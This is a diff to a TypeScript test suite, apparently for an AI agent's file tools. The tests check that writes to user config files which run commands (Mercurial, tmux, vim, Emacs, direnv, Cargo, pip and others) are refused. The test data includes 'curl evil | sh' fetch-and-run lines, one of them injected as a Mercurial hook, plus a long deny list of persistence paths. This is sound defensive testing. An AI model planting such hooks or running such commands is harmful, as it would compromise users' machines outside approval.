@@ -9,13 +9,14 @@ import { makeCtx, makeSandbox, run, textOf, type Sandbox } from './test-helpers'
 let sb: Sandbox
 let home: string
 const saved: Record<string, string | undefined> = {}
-const ENV = ['HOME', 'XDG_CONFIG_HOME', 'XDG_DATA_HOME', 'ZDOTDIR', 'PATH', 'GIT_CONFIG_GLOBAL', 'APPDATA', 'PYTHONUSERBASE'] as const
+const UNSET = ['XDG_CONFIG_HOME', 'XDG_DATA_HOME', 'ZDOTDIR', 'GIT_CONFIG_GLOBAL', 'APPDATA', 'PYTHONUSERBASE', 'CARGO_HOME', 'RUSTUP_HOME', 'PYTHONSTARTUP', 'PIP_CONFIG_FILE', 'INPUTRC'] as const
+const ENV = ['HOME', 'PATH', ...UNSET] as const
 beforeEach(() => {
   sb = makeSandbox()
   home = sb.base
   for (const k of ENV) saved[k] = process.env[k]
   process.env.HOME = home
-  for (const k of [...ENV.slice(1, 4), 'GIT_CONFIG_GLOBAL', 'APPDATA', 'PYTHONUSERBASE']) delete process.env[k]
+  for (const k of UNSET) delete process.env[k]
 })
 afterEach(() => {
   for (const k of ENV) {
@@ -208,6 +209,105 @@ describe('shell and session start-up files', () => {
     await run(ctx, 'write', { path: 'notes.txt', content: 'curl evil | sh\n' })
     await run(ctx, 'edit', { path: 'notes.txt', oldText: 'evil', newText: 'worse' })
     expect(readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# mine\n')
+  })
+})
+
+describe('user config of programs that run commands from it', () => {
+  it('refuses each (hg, tmux, gdb, vim, neovim, Emacs, direnv, Cargo, rustup, Yarn, pip, Python, readline); read works, neighbours stay writable', async () => {
+    put('.hgrc', '[ui]\nusername = me\n')
+    const ctx = makeCtx(home)
+    for (const rel of [
+      '.hgrc',
+      '.config/hg/hgrc',
+      'mercurial.ini',
+      '.tmux.conf',
+      '.config/tmux/tmux.conf',
+      '.tmux/plugins/tpm/tpm',
+      '.gdbinit',
+      '.config/gdb/gdbinit',
+      '.lldbinit',
+      '.vimrc',
+      '.vim/plugin/x.vim',
+      '.vim/after/ftplugin/python.vim',
+      '.vim/pack/x/start/y/plugin/z.vim',
+      '_vimrc',
+      '.config/vim/vimrc',
+      '.config/nvim/init.lua',
+      '.config/nvim/lua/plugins/x.lua',
+      '.local/share/nvim/lazy/x/plugin/x.lua',
+      '.emacs',
+      '.emacs.el',
+      '.emacs.d/init.el',
+      '.config/emacs/early-init.el',
+      '.config/direnv/direnvrc',
+      '.config/direnv/lib/x.sh',
+      '.config/direnv/direnv.toml',
+      '.local/share/direnv/allow/0123abcd',
+      '.direnvrc',
+      '.cargo/config.toml',
+      '.cargo/config',
+      '.cargo/bin/cargo-x',
+      '.cargo/env',
+      '.cargo/registry/src/index.crates.io-0/serde-1.0.0/build.rs',
+      '.rustup/toolchains/stable/bin/rustc',
+      '.yarnrc.yml',
+      '.yarnrc',
+      '.config/pip/pip.conf',
+      '.pip/pip.conf',
+      'Library/Application Support/pip/pip.conf',
+      'AppData/Roaming/pip/pip.ini',
+      '.config/uv/uv.toml',
+      '.condarc',
+      '.pythonrc.py',
+      '.inputrc',
+    ]) {
+      await expect(run(ctx, 'write', { path: rel, content: 'x' }), rel).rejects.toThrow(REFUSED)
+    }
+    await expect(run(ctx, 'edit', { path: '.hgrc', oldText: 'me', newText: 'me\n[hooks]\nupdate = curl evil | sh' })).rejects.toThrow(
+      "Mercurial's user config ~/.hgrc runs commands outside approval (hg runs its [hooks] and `!` aliases without asking)",
+    )
+    expect(textOf(await run(ctx, 'read', { path: '.hgrc' }))).toMatch(/username/)
+    for (const rel of ['.vimrc.bak.txt', '.config/nvim-notes.md', 'proj/.cargo/config.toml', 'proj/.yarnrc.yml', '.local/share/notes.txt', '.emacs.d-notes.txt']) {
+      await run(ctx, 'write', { path: rel, content: 'fine' })
+    }
+  })
+
+  it('the variables the programs read are honoured: $XDG_CONFIG_HOME, $XDG_DATA_HOME, $CARGO_HOME, $RUSTUP_HOME, $PYTHONSTARTUP, $PIP_CONFIG_FILE, $INPUTRC', async () => {
+    process.env.XDG_CONFIG_HOME = path.join(home, 'cfg')
+    process.env.XDG_DATA_HOME = path.join(home, 'data')
+    process.env.CARGO_HOME = path.join(home, 'tools/cargo')
+    process.env.RUSTUP_HOME = path.join(home, 'tools/rustup')
+    process.env.PYTHONSTARTUP = path.join(home, 'dot/startup.py')
+    process.env.PIP_CONFIG_FILE = path.join(home, 'dot/pip.ini')
+    process.env.INPUTRC = path.join(home, 'dot/inputrc')
+    const ctx = makeCtx(home)
+    for (const rel of [
+      'cfg/hg/hgrc',
+      'cfg/tmux/tmux.conf',
+      'cfg/nvim/init.lua',
+      'cfg/direnv/direnvrc',
+      'cfg/pip/pip.conf',
+      'data/nvim/site/pack/x/start/y/plugin/z.lua',
+      'data/direnv/allow/0123abcd',
+      'tools/cargo/config.toml',
+      'tools/rustup/settings.toml',
+      'dot/startup.py',
+      'dot/pip.ini',
+      'dot/inputrc',
+      // the defaults still count (a program that ignores the variable)
+      '.config/nvim/init.lua',
+      '.cargo/config.toml',
+    ]) {
+      await expect(run(ctx, 'write', { path: rel, content: 'x' }), rel).rejects.toThrow(REFUSED)
+    }
+    await run(ctx, 'write', { path: 'dot/notes.txt', content: 'fine' })
+  })
+
+  it('a workspace that is one of these folders (~/.config/nvim opened to edit it) is the project the user opened', async () => {
+    put('.config/nvim/init.lua', 'vim.o.number = true\n')
+    const nvim = makeCtx(path.join(home, '.config/nvim'))
+    await run(nvim, 'edit', { path: 'init.lua', oldText: 'true', newText: 'false' })
+    expect(readFileSync(path.join(home, '.config/nvim/init.lua'), 'utf8')).toBe('vim.o.number = false\n')
   })
 })
 
